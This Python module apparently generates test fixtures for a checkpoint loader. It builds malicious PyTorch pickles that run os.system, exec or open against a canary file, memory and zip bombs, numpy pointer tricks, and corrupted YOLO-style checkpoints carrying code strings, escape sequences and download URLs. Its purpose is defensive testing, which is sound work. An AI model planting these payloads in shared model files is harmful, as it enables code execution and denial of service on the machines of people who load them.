"""Checkpoints of strangers: pickles that want something, and networks that are broken."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import hostile
import torch
from instructions import (
    archive,
    call,
    filled,
    glob,
    layer,
    legacy,
    mapping,
    new,
    ordered_dict,
    persistent,
    pickled,
    pickled_tensor,
    text,
    tuple_of,
)
from torch import nn

BIG = 10**10  # elements, from a few bytes


class Runs:
    """Unpickled by a call of a function, as in the first attack that anybody tries."""

    def __init__(self, function: Callable, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple:
        return self.call


def pickles(canary: Path) -> dict[str, bytes]:
    """Instructions by what they try."""
    return {**_numpy(canary), **_memory(), **_calls(canary)}


def _numpy(canary: Path) -> dict[str, bytes]:
    """numpy's own ways to make an object of bytes."""
    found = {}
    for core in ("numpy.core", "numpy._core"):
        rebuild = glob(f"{core}.multiarray", "_reconstruct")
        scalar = glob(f"{core}.multiarray", "scalar")
        empty = call(rebuild, glob("numpy", "ndarray"), b"K\x00\x85", text("b"))
        plain = call(glob("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
        # an object's dtype that says it holds none: bytes of the file become a pointer
        lied = filled(plain, pickled((3, "|", None, None, None, -1, -1, 0)))
        pointer = pickled(b"\x41" * 8)
        array = tuple_of(b"K\x01", b"K\x01\x85", lied, b"\x89", pointer)
        found |= {
            f"{core}: dtype state, array": filled(empty, array),
            f"{core}: dtype state, scalar": call(scalar, lied, pointer),
            f"{core}: array of objects": filled(
                empty, tuple_of(b"K\x01", b"K\x01\x85", plain, b"\x89", b"]" + text("x") + b"a")
            ),
            f"{core}: array that is larger than its bytes": filled(
                empty,
                tuple_of(
                    b"K\x01",
                    pickled((10**9,)),
                    call(glob("numpy", "dtype"), text("f8"), b"\x89", b"\x88"),
                    *(b"\x89", pickled(b"12345678")),
                ),
            ),
            f"{core}: shape without end": call(
                rebuild, glob("numpy", "ndarray"), pickled((BIG,)), text("b")
            ),
        }
    dtype = glob("numpy", "dtype")
    structure = pickled((3, "|", None, ("a",), {"a": 1}, 8, 1, 27))
    return found | {
        "dtype of two gigabytes": call(dtype, text("V2000000000")),
        "dtype by name, of two gigabytes": call(dtype, text("S2000000000")),
        "dtype of a structure": filled(call(dtype, text("V8")), structure),
        "dtype of code": call(dtype, text(f"open({str(canary)!r}, 'w')")),
        "dtype of ten thousand fields": call(dtype, text(",".join(["i4"] * 10_000))),
    }


def _memory() -> dict[str, bytes]:
    """A few bytes that ask for gigabytes."""
    numbers = call(glob("__builtin__", "xrange"), pickled(BIG))
    newer = call(glob("builtins", "range"), pickled(BIG))
    storage = tuple_of(
        *(text("storage"), glob("torch", "FloatStorage"), text("0"), text("cpu"), pickled(BIG))
    )
    wide = _tensor((10**5, 10**5), (0, 0))
    found = {
        f"{name} of a range": call(glob(module, name), each)
        for module, name in (
            *(("builtins", "set"), ("builtins", "frozenset"), ("builtins", "list")),
            *(("collections", "Counter"), ("torch", "Size"), ("builtins", "tuple")),
        )
        for each in (newer,)
    }
    deep = b"(" * 50_000 + b"t" * 50_000
    doubled = b"]q\x00" + b"".join(
        b"](h" + bytes([at]) + b"h" + bytes([at]) + b"eq" + bytes([at + 1]) for at in range(60)
    )
    return found | {
        "old range": call(glob("__builtin__", "set"), numbers),
        "memo of a large number": b"}r" + (1_500_000_000).to_bytes(4, "little"),
        "memo of a large number, read": b"}r" + (1_500_000_000).to_bytes(4, "little") + b"j"
        b"\xff\xff\xff\x7f",
        "memo of a large number, in words": b"}p4000000000\n",
        "frame of four gigabytes": b"\x95" + (1 << 32).to_bytes(8, "little") + b"}",
        "text of four gigabytes": b"\x8d" + (1 << 32).to_bytes(8, "little") + b"x",
        "bytes of four gigabytes": b"\x96" + (1 << 32).to_bytes(8, "little") + b"x",
        "number of ten million digits": b"L" + b"9" * 10_000_000 + b"L\n",
        "deep tuples": deep,
        "lists that double sixty times": doubled,
        "storage that is not there": mapping(model=persistent(storage)),
        "tensor of stride zero": mapping(model=mapping(weight=wide)),
        "tensor of stride zero in a layer": mapping(
            model=layer(
                glob("torch.nn.modules.conv", "Conv2d"),
                _parameters=mapping(
                    weight=call(
                        glob("torch._utils", "_rebuild_parameter"), *(wide, b"\x88", ordered_dict())
                    )
                ),
            )
        ),
        "namespace of a range": filled(
            call(glob("argparse", "Namespace")),
            mapping(imgsz=call(glob("builtins", "list"), newer)),
        ),
    }


def _calls(canary: Path) -> dict[str, bytes]:
    command = text(f"touch {canary}")
    system, getattr_ = glob("os", "system"), glob("__builtin__", "getattr")
    with_state = glob("torch._utils", "_rebuild_parameter_with_state")
    tensor = pickled_tensor()
    forward = call(getattr_, glob("torch.nn.modules.linear", "Identity"), text("forward"))
    made = layer(glob("torch.nn.modules.linear", "Identity"))
    apply = call(getattr_, made, text("apply"))
    return {
        "parameter with state": call(
            with_state, tensor, b"\x88", ordered_dict(), mapping(__class__=system)
        ),
        "parameter with state of slots": call(
            *(with_state, tensor, b"\x88", ordered_dict()),
            tuple_of(b"N", mapping(__reduce__=forward)),
        ),
        "getattr of getattr of a module": call(
            call(getattr_, glob("torch", "os"), text("system")), command
        ),
        "getattr over dots": call(
            call(getattr_, glob("torch", "serialization"), text("os.system")), command
        ),
        "apply of a module": call(apply, system),
        "hook that is a function": layer(
            glob("torch.nn.modules.linear", "Identity"),
            _forward_pre_hooks=b"}K\x00" + system + b"s",
        ),
        "hook of the state dict": layer(
            *(glob("torch.nn.modules.linear", "Identity"),),
            _load_state_dict_pre_hooks=b"}K\x00" + system + b"s",
        ),
        "forward of the instance": layer(
            glob("torch.nn.modules.linear", "Identity"), forward=system
        ),
        "call of the instance": layer(
            glob("torch.nn.modules.linear", "Identity"), _call_impl=system
        ),
        "code extension": b"\x82\xf0" + tuple_of(command) + b"R",
        "function by copyreg": call(glob("copyreg", "_reconstructor"), system, command),
        "copyreg, an extension of its own": call(
            *(glob("copyreg", "add_extension"), text("os"), text("system"), b"K\x01")
        )
        + b"0\x82\x01"
        + tuple_of(command)
        + b"R",
        "object that unpickles another": call(glob("pickle", "loads"), pickled(b"cos\nsystem\n.")),
        "storage that unpickles": call(
            glob("torch.storage", "_load_from_bytes"), pickled(b"cos\nsystem\n.")
        ),
        "sequential of a function": layer(
            glob("torch.nn.modules.container", "Sequential"), _modules=mapping(a=system)
        ),
        "new of a type": new(glob("builtins", "type"), text("X"), b")", b"}"),
    }


def _tensor(size: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    """A tensor of any size over the one number that `hostile.archive` holds."""
    storage = tuple_of(
        *(text("storage"), glob("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x01")
    )
    numbers = persistent(storage), b"K\x00", pickled(size), pickled(stride), b"\x89"
    return call(glob("torch._utils", "_rebuild_tensor_v2"), *numbers, ordered_dict())


def write_pickles(folder: Path, canary: Path) -> Iterator[tuple[str, Path]]:
    """Each of `pickles` as a file of today, some as one of old, and what is not a pickle."""
    for at, (name, body) in enumerate(pickles(canary).items()):
        yield name, archive(folder / f"pickle-{at}.pt", body)
        if at % 7 == 0:
            yield f"{name}, torch<1.6", legacy(folder / f"legacy-{at}.pt", body)
    for file in hostile.files(folder / "files", canary):
        yield file.stem, file
    script = folder / "torchscript.pt"
    torch.jit.trace(nn.Identity(), torch.zeros(1)).save(str(script))
    yield "TorchScript", script
    yield "zip of zeros", _bomb(folder / "bomb.pt")
    yield "zip whose pickle is not the first", _two_pickles(folder / "two.pt", canary)
    torch.save(Runs(exec, f"open({str(canary)!r}, 'w')"), folder / "exec.pt")
    yield "reduce of exec", folder / "exec.pt"
    torch.save({"model": Runs(open, str(canary), "w")}, folder / "open.pt")
    yield "reduce of open", folder / "open.pt"


def _bomb(file: Path) -> Path:
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("a/data.pkl", b"\x80\x02" + mapping(model=pickled_tensor()) + b".")
        out.writestr("a/data/0", bytes(200_000_000))
        out.writestr("a/version", "3\n")
    return file


def _two_pickles(file: Path, canary: Path) -> Path:
    bad = b"\x80\x02" + call(glob("os", "system"), text(f"touch {canary}")) + b"."
    with zipfile.ZipFile(file, "w") as out:
        out.writestr("a/data.pkl", b"\x80\x02}.")
        out.writestr("b/data.pkl", bad)
        out.writestr("a/data/0", bytes(4))
        out.writestr("data.pkl", bad)
        out.writestr("a/version", "3\n")
    return file


# ------------------------------------------------------------------------- broken networks


def _conv(model: nn.Module) -> nn.Conv2d:
    return next(m for m in model.modules() if isinstance(m, nn.Conv2d))


def _weight(value: Any) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        conv = _conv(saved["model"])
        del conv._parameters["weight"]
        if value is not None:
            conv._parameters["weight"] = value(saved)

    return change


def _attribute(name: str, value: Any) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        saved["model"].__dict__[name] = value

    return change


def _of_conv(name: str, value: Any) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        _conv(saved["model"]).__dict__[name] = value

    return change


def _of_row(name: str, value: Any, row: int = -1) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        saved["model"].model[row].__dict__[name] = value

    return change


def _arguments(**values: Any) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        saved["model"].args = {**getattr(saved["model"], "args", {}), **values}
        saved["train_args"] = saved["model"].args

    return change


def _rows(row: list) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        definition = saved["model"].yaml
        definition["backbone"] = [*definition["backbone"][:1], row, *definition["backbone"][2:]]
        saved["model"].yaml = definition

    return change


def _inside_itself(saved: dict) -> None:
    saved["model"].model[1]._modules["again"] = saved["model"].model


def _empty(saved: dict) -> None:
    saved["model"].model = nn.Sequential()


def _no_names(saved: dict) -> None:
    del saved["model"].__dict__["names"]


def _data(value: str) -> Callable[[dict], None]:
    def change(saved: dict) -> None:
        _arguments(data=value)(saved)
        saved["opt"] = {"data": value, "save_dir": "runs/exp"}

    return change


NAN = float("nan")


def broken(files: dict[str, str]) -> dict[str, Callable[[dict], None]]:
    """What is changed in a sound checkpoint; `files` are other files of strangers, by kind."""
    model = files["model"]
    return {
        "weights of another shape": _weight(lambda _: nn.Parameter(torch.zeros(3, 2, 1, 1))),
        "weights of one dimension": _weight(lambda _: nn.Parameter(torch.zeros(7))),
        "no weights": _weight(None),
        "weights that are None": _weight(lambda _: None),
        "whole numbers as weights": _weight(
            lambda _: nn.Parameter(torch.ones(8, 3, 3, 3, dtype=torch.int32), requires_grad=False)
        ),
        "complex weights": _weight(
            lambda _: nn.Parameter(torch.ones(8, 3, 3, 3, dtype=torch.complex64))
        ),
        "weights that are NaN": _weight(lambda _: nn.Parameter(torch.full((8, 3, 3, 3), NAN))),
        "weights on no device": _weight(
            lambda _: nn.Parameter(torch.empty(8, 3, 3, 3, device="meta"))
        ),
        "sparse weights": _weight(
            lambda _: nn.Parameter(torch.zeros(8, 3, 3, 3).to_sparse(), requires_grad=False)
        ),
        "image size of zeros": _arguments(imgsz=[0, 0]),
        "image size of text": _arguments(imgsz=["a"]),
        "image size of NaN": _arguments(imgsz=NAN),
        "image size of a googol": _arguments(imgsz=10**100),
        "image size without end": _arguments(imgsz=[10**7, 10**7]),
        "image size that is negative": _arguments(imgsz=-64),
        "image size of five": _arguments(imgsz=[64] * 5),
        "image size that is a mapping": _arguments(imgsz={"a": 1}),
        "arguments that are a number": lambda saved: saved.update(train_args=5),
        "names that are a number": _attribute("names", 5),
        "names that are None": _attribute("names", None),
        "names that are numbers": _attribute("names", {"a": [1], 2.5: {}}),
        "names with an escape": _attribute("names", ["\x1b]0;gone\x07\x1b[2J", "a\nb\r"]),
        "names of another number": _attribute("names", [str(i) for i in range(3000)]),
        "no names": _no_names,
        "yaml that is None": _attribute("yaml", None),
        "yaml that is text": _attribute("yaml", "text"),
        "yaml without rows": _attribute("yaml", {"nc": 2}),
        "task that is a list": _arguments(task=["detect"]),
        "task that nobody knows": _arguments(task="\x1b[31mfly"),
        "empty network": _empty,
        "network inside itself": _inside_itself,
        "stride that is zero": _attribute("stride", torch.zeros(2)),
        "stride that is text": _attribute("stride", "many"),
        "stride that is NaN": _attribute("stride", torch.tensor([NAN, NAN])),
        "row from nowhere": _of_row("f", 999),
        "row from text": _of_row("f", "nowhere"),
        "row from a list of nothing": _of_row("f", []),
        "row from the future": _of_row("f", 4, row=1),
        "classes that are text": _of_row("nc", "two"),
        "classes without end": _of_row("nc", 10**12),
        "forward that is a number": _attribute("forward", 5),
        "eval that is text": _attribute("eval", "shadow"),
        "modules that is a number": _attribute("modules", 5),
        "state_dict that is a list": _attribute("state_dict", []),
        "kernel that is text": _of_conv("kernel_size", "three"),
        "stride of a convolution that is zero": _of_conv("stride", (0, 0)),
        "padding without end": _of_conv("padding", (10**6, 10**6)),
        "groups that do not divide": _of_conv("groups", 5),
        "padding mode that is code": _of_conv("padding_mode", "__import__('os')"),
        "buffers that are a list": _of_conv("_buffers", []),
        "rows name a loader, of a file": _rows([-1, 1, "DetectMultiBackend", [[model]]]),
        "rows name a loader, of a URL": _rows(
            [-1, 1, "DetectMultiBackend", [["http://example.invalid/model.onnx"]]]
        ),
        "rows name a whole model": _rows([-1, 1, "AutoBackend", [[model]]]),
        "rows name an installer": _rows([-1, 1, "check_requirements", [["stranger-package"]]]),
        "rows name a maker of folders": _rows([-1, 1, "increment_path", [[files["new folder"]]]]),
        "rows name a loader of weights": _rows(
            [-1, 1, "attempt_download", [["http://example.invalid/a.pt"]]]
        ),
        "rows of code": _rows([-1, 1, f"__import__('os').system('touch {files['canary']}')", []]),
        "data of a URL": _data("http://example.invalid/data.yaml"),
        "data that downloads by Python": _data(files["python"]),
        "data that downloads by a shell": _data(files["shell"]),
        "data of a device": _data("/dev/zero"),
    }


def write_broken(folder: Path, sound: Path, files: dict[str, str]) -> Iterator[tuple[str, Path]]:
    """A file for each of `broken`."""
    content = sound.read_bytes()
    for at, (name, change) in enumerate(broken(files).items()):
        saved = torch.load(io.BytesIO(content), weights_only=False)  # of our own, just written
        change(saved)
        torch.save(saved, folder / f"broken-{at}.pt")
        yield name, folder / f"broken-{at}.pt"
